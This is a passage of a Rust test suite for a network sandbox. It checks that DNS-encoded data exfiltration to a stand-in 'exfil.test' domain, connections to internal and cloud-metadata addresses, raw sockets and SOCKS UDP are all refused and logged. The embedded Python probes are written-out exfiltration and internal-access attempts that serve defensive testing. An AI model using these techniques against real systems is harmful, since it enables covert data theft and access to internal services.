        let d = denied(&r, via, "allowed.test", "host-header-mismatch");
        assert!(
            d["detail"]
                .as_str()
                .unwrap()
                .contains("more than one Host header (allowed.test, other.test)"),
            "{d}"
        );
    }
    only_these_arrived(&m, &[]);
}

#[test]
fn names_resolving_to_internal_addresses_are_refused_unless_an_ip_rule_names_them() {
    require();
    let m = unique("internal");
    let names = [
        "allowed.test",
        "second.test",
        "private.test",
        "metadata.test",
        "loopback.test",
        "mapped.test",
    ];
    let mut opts = Vec::new();
    for n in names {
        opts.extend(args(&["--allow-net", n]));
    }
    opts.extend(args(&["--allow-net", WEB]));
    opts.extend(pins(&names));
    let script = r#"
for host in ["allowed.test", "second.test", "private.test", "metadata.test", "loopback.test",
             "mapped.test"]:
    s, code, why = connect(host, 80)
    body = get_over(s, host, f"/{M}/connect/{host}") if code == "200" else "-"
    print(f"connect {host}:", code, why, body)
print("transparent second:", curl(f"http://second.test/{M}/t-second", proxy=False)[:2])
print("transparent private:", curl(f"https://private.test/{M}/t-private", proxy=False)[0])
print("socks second:", socks("second.test", 443)[1])
"#;
    let r = py(&opts, &m, script);
    assert!(
        said(&r, "connect allowed.test").starts_with("200 - srv=http host=allowed.test"),
        "the IP rule permits the documentation address: {}",
        r.stdout
    );
    for (host, addr) in [
        ("second.test", SECOND),
        ("private.test", "10.0.0.10"),
        ("metadata.test", "169.254.169.254"),
        ("loopback.test", "127.0.0.1"),
        ("mapped.test", "::ffff:198.51.100.10"),
    ] {
        assert_eq!(
            said(&r, &format!("connect {host}")),
            "403 special-address -",
            "{host}: {}",
            r.stderr
        );
        let d = denied(&r, "http-connect", host, "special-address");
        assert!(
            d["detail"].as_str().unwrap().contains(addr) && d["address"].is_null(),
            "{d}"
        );
    }
    assert!(
        said(&r, "transparent second").starts_with("(52,"),
        "{}",
        r.stdout
    );
    assert_eq!(
        said(&r, "transparent private"),
        "35",
        "TLS cut before the handshake"
    );
    denied(&r, "transparent", "second.test", "special-address");
    denied(&r, "transparent", "private.test", "special-address");
    assert_eq!(said(&r, "socks second"), "2");
    denied(&r, "socks5", "second.test", "special-address");
    only_these_arrived(&m, &["/connect/allowed.test"]);
    assert!(host_get(SECOND, 80, "second.test", "/").contains("srv=http"));

    // An IP rule for the second server's IPv4 address permits the same name; its IPv6 address,
    // which no rule names, is passed over.
    let m2 = unique("internal-ok");
    opts.extend(args(&["--allow-net", SECOND]));
    let r = py(&opts, &m2, script);
    let got = said(&r, "connect second.test");
    assert!(
        got.starts_with(&format!(
            "200 - srv=http host=second.test path=/{m2}/connect/second.test sni=None local={SECOND}:80"
        )),
        "{got}\n{}",
        r.stderr
    );
    assert!(said(&r, "transparent second").contains(&format!("local={SECOND}:80")));
    let e = event(&r, "transparent", "second.test", "allowed", "allowed");
    assert_eq!(e["address"], format!("{SECOND}:80"));
    assert_eq!(said(&r, "connect private.test"), "403 special-address -");
    assert!(requests(&m2)
        .iter()
        .any(|p| p.ends_with("/connect/second.test")));
}

#[test]
fn dns_queries_carry_nothing_out_and_the_test_dns_server_hears_nothing() {
    require();
    let m = unique("dns");
    let mut opts = args(&[
        "--allow-net",
        "allowed.test",
        "--allow-net",
        "*.example.org",
        "--allow-net",
        WEB,
    ]);
    opts.extend(pins(&["allowed.test"]));
    let r = py(
        &opts,
        &m,
        r#"
data = f"onswg4tfoqfa-{M}"
for key, name in [("exfil", f"{data}.exfil.test"), ("exact", f"{data}.allowed.test"),
                  ("wildcard", f"{data}.example.org"), ("allowed", "allowed.test")]:
    for qt in (1, 16, 28):
        print(f"stub {key} {qt}:", dns(name, qt))
print("stub binary:", dns("", 1, labels=[b"c2VjcmV0+/=\x00\xff" + M.encode(), b"exfil", b"test"]))
print("stub literal:", dns("3325256724", 1))
try:
    socket.getaddrinfo(f"{data}.lookup.test", 443)
    print("getaddrinfo: RESOLVED")
except socket.gaierror:
    print("getaddrinfo: failed")
print("direct v4:", dns(f"direct-{M}.allowed.test", 1, ("198.51.100.53", 53)))
print("direct v6:", dns(f"direct-{M}.allowed.test", 1, ("2001:db8:5::53", 53)))
print("direct tcp:", tcp("198.51.100.53", 53))
"#,
    );
    let nx = "(3, [])";
    for key in ["exfil 1", "exfil 16", "exfil 28", "exact 1", "exact 28"] {
        assert_eq!(said(&r, &format!("stub {key}")), nx, "{key}");
    }
    // A wildcard lets the code choose the name: the stub answers it from its own range, and
    // nothing has left the machine yet.
    assert!(
        said(&r, "stub wildcard 1").starts_with("(0, ['127.77.0."),
        "{}",
        r.stdout
    );
    assert_eq!(said(&r, "stub wildcard 16"), "(0, [])");
    assert_eq!(said(&r, "stub wildcard 28"), "(0, [])");
    assert!(said(&r, "stub allowed 1").starts_with("(0, ['127.77.0."));
    assert_eq!(said(&r, "stub allowed 28"), "(0, [])", "AAAA: empty");
    assert_eq!(said(&r, "stub binary"), nx);
    assert_eq!(said(&r, "stub literal"), nx);
    assert_eq!(said(&r, "getaddrinfo"), "failed");
    let data = format!("onswg4tfoqfa-{m}");
    // Each refused name is logged once, with its reason, however often it was asked.
    for name in [
        format!("{data}.exfil.test"),
        format!("{data}.allowed.test"),
        format!("{data}.lookup.test"),
        "3325256724".into(),
    ] {
        denied(&r, "dns", &name, "not-allowed");
        let n = events(&r).iter().filter(|e| e["host"] == name).count();
        assert_eq!(n, 1, "{name}");
    }
    assert!(events(&r).iter().any(|e| e["via"] == "dns"
        && e["reason"] == "not-allowed"
        && e["host"].as_str().unwrap().contains(&m)
        && e["host"].as_str().unwrap().starts_with("c2VjcmV0")));
    event(
        &r,
        "dns",
        &format!("{data}.example.org"),
        "allowed",
        "allowed",
    );
    // The test DNS server, which the sandbox cannot reach, never heard of any of these.
    assert_eq!(said(&r, "direct v4"), "ENETUNREACH");
    assert_eq!(said(&r, "direct v6"), "ENETUNREACH");
    let tcp = said(&r, "direct tcp");
    assert!(tcp == "EACCES" || tcp == "ENETUNREACH", "{tcp}");
    assert!(seen(&m).is_empty(), "{:#?}", seen(&m));
    let ctl = unique("dns-control");
    assert_eq!(
        dns_query(DNS, &format!("{ctl}.allowed.test"), 1).unwrap().0,
        3
    );
    assert_eq!(seen(&ctl).len(), 1, "the DNS server logs what it hears");
}

#[test]
fn udp_raw_and_icmp_sockets_reach_no_test_host() {
    require();
    let m = unique("raw");
    let mut opts = args(&["--allow-net", "allowed.test", "--allow-net", WEB]);
    opts.extend(pins(&["allowed.test"]));
    let r = py(
        &opts,
        &m,
        r#"
def attempt(key, fam, kind, proto, dest, payload):
    try:
        s = socket.socket(fam, kind, proto)
    except OSError as e:
        print(f"{key}:", "socket", en(e)); return
    try:
        s.sendto(payload, dest); print(f"{key}:", "SENT")
    except OSError as e:
        print(f"{key}:", "send", en(e))
q = f"udp-{M}".encode()
echo = b"\x08\x00\xf7\xff\x00\x00\x00\x00" + q
A, B = socket.AF_INET, socket.AF_INET6
attempt("udp dns", A, socket.SOCK_DGRAM, 0, ("198.51.100.53", 53), q)
attempt("udp dns6", B, socket.SOCK_DGRAM, 0, ("2001:db8:5::53", 53), q)
attempt("udp web", A, socket.SOCK_DGRAM, 0, ("198.51.100.10", 443), q)
attempt("udp far", A, socket.SOCK_DGRAM, 0, ("198.18.0.10", 53), q)
attempt("raw icmp", A, socket.SOCK_RAW, socket.IPPROTO_ICMP, ("198.51.100.10", 0), echo)
attempt("raw udp", A, socket.SOCK_RAW, socket.IPPROTO_UDP, ("198.51.100.53", 0), q)
attempt("raw icmp6", B, socket.SOCK_RAW, socket.IPPROTO_ICMPV6, ("2001:db8:5::10", 0), echo)
attempt("ping", A, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, ("198.51.100.10", 0), echo)
attempt("ping6", B, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6, ("2001:db8:5::10", 0), echo)
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); print("packet: CREATED")
except OSError as e:
    print("packet:", en(e))
try:
    s = socket.socket(A, socket.SOCK_DGRAM); s.connect(("198.51.100.53", 53)); print("udp connect: CONNECTED")
except OSError as e:
    print("udp connect:", en(e))
s = socket.create_connection(("127.0.0.1", 1080), timeout=20)
s.sendall(b"\x05\x01\x00")
s.recv(2)
s.sendall(b"\x05\x03\x00\x01" + socket.inet_aton("198.51.100.53") + (53).to_bytes(2, "big"))
print("socks udp associate:", s.recv(10)[1])
"#,
    );
    for key in ["udp dns", "udp dns6", "udp web", "udp far"] {
        assert_eq!(said(&r, key), "send ENETUNREACH", "{key}");
    }
    assert_eq!(said(&r, "udp connect"), "ENETUNREACH");
    // Nor through the proxy: SOCKS5 UDP ASSOCIATE is "command not supported".
    assert_eq!(said(&r, "socks udp associate"), "7");
    denied(&r, "socks5", DNS, "unsupported");
    for key in ["raw icmp", "raw udp", "raw icmp6"] {
        assert_eq!(said(&r, key), "socket EPERM", "{key}: seccomp");
    }
    let packet = said(&r, "packet");
    assert!(
        packet == "EPERM" || packet == "EAFNOSUPPORT",
        "packet: {packet}"
    );
    // Ping sockets: the sandbox's namespace allows no group (ping_group_range), and has no
    // route anyway.
    for key in ["ping", "ping6"] {
        let got = said(&r, key);
        assert!(
            ["socket EACCES", "socket EPERM", "send ENETUNREACH"].contains(&got.as_str()),
            "{key}: {got}"
        );
    }
    assert!(!r.stdout.contains("SENT") && !r.stdout.contains("CREATED"));
    assert!(
        r.report()["denied_syscalls"]
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["name"].as_str().unwrap().starts_with("socket")),
        "{}",
        r.report()["denied_syscalls"]
    );
    assert!(seen(&m).is_empty(), "{:#?}", seen(&m));
    assert_eq!(dns_query(DNS, "allowed.test", 1).unwrap().0, 0);
}

#[test]
fn an_ipv6_only_host_is_reached_over_ipv6_and_ipv6_literals_need_an_ip_rule() {
    require();
    let m = unique("v6");
    let mut opts = args(&[
        "--allow-net",
        "v6.test",
        "--allow-net",
        &format!("[{WEB6}]"),
    ]);
    opts.extend(pins(&["v6.test"]));
    let r = py(
        &opts,
        &m,
        r#"
def show(key, res):
    print(f"{key}:", res[0], res[1] if res[0] == 0 else res[2])
show("curl proxy", curl(f"https://v6.test/{M}/proxy"))
show("curl transparent", curl(f"https://v6.test/{M}/transparent", proxy=False))
show("curl forward", curl(f"http://v6.test/{M}/forward"))
print("stub:", dns("v6.test", 1), dns("v6.test", 28))
s, code, why = connect("[2001:db8:5::10]", 443)
t = tls(s, "v6.test") if code == "200" else None
print("connect literal allowed:", code, get_over(t, "v6.test", f"/{M}/literal") if t else why)
for host in ["[2001:db8:5::20]", "[2001:db8:5:0:0:0:0:20]", "[2001:0db8:0005::0020]", "[2001:db8:5::1]"]:
    print(f"connect {host}:", *connect(host, 443)[1:])
s, rep = socks("2001:db8:5::10", 80, 4)
print("socks allowed:", rep, get_over(s, "v6.test", f"/{M}/socks"))
print("socks refused:", socks("2001:db8:5::20", 80, 4)[1])
print("direct:", tcp("2001:db8:5::10", 443))
"#,
    );
    for (key, srv, path) in [
        ("curl proxy", "https", "proxy"),
        ("curl transparent", "https", "transparent"),
        ("curl forward", "http", "forward"),
    ] {
        let got = said(&r, key);
        let port = if srv == "https" { 443 } else { 80 };
        assert!(
            got.starts_with(&format!("0 srv={srv} host=v6.test path=/{m}/{path}"))
                && got.ends_with(&format!("local=[{WEB6}]:{port}")),
            "{key}: {got}\n{}",
            r.stderr
        );
    }
    // Inside it is IPv4 to the stub's address; the supervisor goes out over IPv6.
    assert!(
        said(&r, "stub").starts_with("(0, ['127.77.0.1']) (0, [])"),
        "{}",
        r.stdout
    );
    for via in ["http-connect", "transparent", "http-forward"] {
        let e = event(&r, via, "v6.test", "allowed", "allowed");
        assert!(
            e["address"]
                .as_str()
                .unwrap()
                .starts_with(&format!("[{WEB6}]:")),
            "{e}"
        );
    }
    assert!(
        said(&r, "connect literal allowed").starts_with("200 srv=https host=v6.test"),
        "{}",
        r.stdout
    );
    for host in [
        "[2001:db8:5::20]",
        "[2001:db8:5:0:0:0:0:20]",
        "[2001:0db8:0005::0020]",
    ] {
        assert_eq!(said(&r, &format!("connect {host}")), "403 ip-literal");
    }
    let n = events(&r)
        .iter()
        .filter(|e| {
            e["via"] == "http-connect"
                && e["host"] == format!("[{SECOND6}]")
                && e["reason"] == "ip-literal"
        })
        .count();
    assert_eq!(n, 3, "every spelling is the same address");
    assert_eq!(said(&r, "connect [2001:db8:5::1]"), "403 ip-literal");
    denied(&r, "http-connect", "[2001:db8:5::1]", "ip-literal");
    assert!(said(&r, "socks allowed").starts_with("0 srv=http host=v6.test"));
    assert_eq!(said(&r, "socks refused"), "2");
    denied(&r, "socks5", &format!("[{SECOND6}]"), "ip-literal");
    let direct = said(&r, "direct");
    assert!(direct == "EACCES" || direct == "ENETUNREACH", "{direct}");
    only_these_arrived(
        &m,
        &["/proxy", "/transparent", "/forward", "/literal", "/socks"],
    );
    for e in seen(&m) {
        assert_eq!(e["peer"], "2001:db8:5::1", "from the host's end: {e}");
    }
}

/// `--dns-server`: the supervisor asks the test internet's DNS server itself (no `--resolve` pins),
/// from the host side, and checks what it answers like any address: an allowed name is reached,
/// one that resolves to a private address is refused, and a name the server does not know is
/// refused with the server's NXDOMAIN in the log. A malformed server is refused before anything
/// runs.
#[test]
fn the_dns_server_option_sends_the_supervisors_own_lookups_to_that_server() {
    require();
    let m = unique("dnsserver");
    let missing = format!("{m}.nowhere.test");
    let mut opts = args(&["--dns-server", DNS, "--allow-net", WEB]);
    for n in ["allowed.test", "private.test", &missing] {
        opts.extend(args(&["--allow-net", n]));
    }
    let script = format!(
        r#"
for host in ["allowed.test", "private.test", "{missing}"]:
    s, code, why = connect(host, 80)
    body = get_over(s, host, f"/{{M}}/dns/{{host}}") if code == "200" else "-"
    print(f"connect {{host}}:", code, why, body)
"#
    );
    let r = py(&opts, &m, &script);
    assert!(
        said(&r, "connect allowed.test").starts_with("200 - srv=http host=allowed.test"),
        "{}\n{}",
        r.stdout,
        r.stderr
    );
    assert_eq!(said(&r, "connect private.test"), "403 special-address -");
    denied(&r, "http-connect", "private.test", "special-address");
    assert_eq!(
        said(&r, &format!("connect {missing}")),
        "502 resolve-failed -"
    );
    let d = denied(&r, "http-connect", &missing, "resolve-failed");
    let detail = d["detail"].as_str().unwrap();
    assert!(
        detail.contains("NXDOMAIN") && detail.contains(DNS),
        "{detail}"
    );
    // The server heard the supervisor, from the host side of the test internet, for each name.
    let asked: Vec<Value> = log()
        .into_iter()
        .filter(|e| e["srv"] == "dns" && e["event"] == "query" && e["name"] == missing.as_str())
        .collect();
    assert!(
        !asked.is_empty(),
        "the test DNS server was not asked for {missing}"
    );
    assert!(asked.iter().all(|e| e["peer"] == HOST_SIDE), "{asked:?}");
    let reqs = requests(&m);
    assert!(
        reqs.len() == 1 && reqs[0].ends_with("/dns/allowed.test"),
        "only the allowed request may arrive: {reqs:?}"
    );

    let r = run(
        &["--dns-server", "dns.example", "--allow-net", "allowed.test"],
        &["true"],
    );
    assert_eq!(r.code, 125, "{}", r.stderr);
    assert!(
        r.stderr.contains("--dns-server") && r.stderr.contains("198.51.100.53:5353"),
        "{}",
        r.stderr
    );
}

/// The supervisor looks an allowed name up through the system's resolver as written, never under
/// the host's search domains. The supervisor here runs in a mount namespace of its own whose
/// `/etc/resolv.conf` names the test internet's DNS server and the search domain `search.test`,
/// under which every name exists. A name the wildcard rule allows and that does not exist is
/// refused (`resolve-failed`), and the server is never asked for it under `search.test`: glibc
/// asked, and the proxy connected to the address of `<name>.search.test`, a name no rule allows
/// (an address of the host's own domain, on a real host). An allowed name that exists is reached
/// through the same resolver.
#[test]
#[ignore = "needs root: runs the supervisor in a mount namespace with its own /etc/resolv.conf; the root pass runs it with --include-ignored"]
fn a_name_is_looked_up_as_written_never_under_the_hosts_search_domains() {
    require();
    let uid = std::fs::metadata("/proc/self").map(|m| std::os::unix::fs::MetadataExt::uid(&m));
    assert_eq!(
        uid.unwrap(),
        0,
        "this test mounts over /etc/resolv.conf: run it as root"
    );
    let m = unique("search");
    let missing = format!("{m}.allowed.test");
    let dir = TempDir::new("search");
    let resolv = dir.path().join("resolv.conf");
    std::fs::write(
        &resolv,
        format!("nameserver {DNS}\nsearch search.test\noptions timeout:2 attempts:2\n"),
    )
    .unwrap();
    let script = format!(
        r#"
for host in ["allowed.test", "{missing}"]:
    s, code, why = connect(host, 80)
    body = get_over(s, host, f"/{{M}}/search/{{host}}") if code == "200" else "-"
    print(f"connect {{host}}:", code, why, body)
"#
    );
    let mut o: Vec<String> = ca_bind();
    // The web host's address is allowed too (a documentation address is refused otherwise),
    // so that only the name decides.
    o.extend(args(&[
        "--allow-net",
        "allowed.test",
        "--allow-net",
        "*.allowed.test",
        "--allow-net",
        WEB,
    ]));
    o.extend(["--json", "-", "--timeout", "120s"].map(String::from));
    let o: Vec<&str> = o.iter().map(String::as_str).collect();
    let code = format!("{HELPERS}\n{script}");
    let c = command(&o, &["python3", "-c", &code, &m]);
    let mut w = std::process::Command::new("unshare");
    w.args(["--mount", "--propagation", "private", "--", "sh", "-c"])
        .arg("mount --bind \"$0\" /etc/resolv.conf && exec \"$@\"")
        .arg(&resolv)
        .arg(c.get_program())
        .args(c.get_args())
        .stdin(std::process::Stdio::null());
    let r: Run = w.output().expect("unshare could not be started").into();
    assert!(
        said(&r, "connect allowed.test").starts_with("200 - srv=http host=allowed.test"),
        "the control, through the same resolver: {}\n{}",
        r.stdout,
        r.stderr
    );
    assert_eq!(
        said(&r, &format!("connect {missing}")),
        "502 resolve-failed -",
        "{}\n{}",
        r.stdout,
        r.stderr
    );
    denied(&r, "http-connect", &missing, "resolve-failed");
    let searched = format!("{missing}.search.test");
    let asked: Vec<Value> = log()
        .into_iter()
        .filter(|e| e["srv"] == "dns" && e["event"] == "query")
        .filter(|e| e["name"].as_str().is_some_and(|n| n.contains(m.as_str())))
        .collect();
    assert!(
        asked.iter().any(|e| e["name"] == missing.as_str()),
        "the name as written was not asked: {asked:?}"
    );
    assert!(
        !asked.iter().any(|e| e["name"] == searched.as_str()),
        "the server was asked for {searched}: {asked:?}"
    );
    let reqs = requests(&m);
    assert!(
        reqs.len() == 1 && reqs[0].ends_with("/search/allowed.test"),
        "only the allowed request may arrive: {reqs:?}"
    );
}
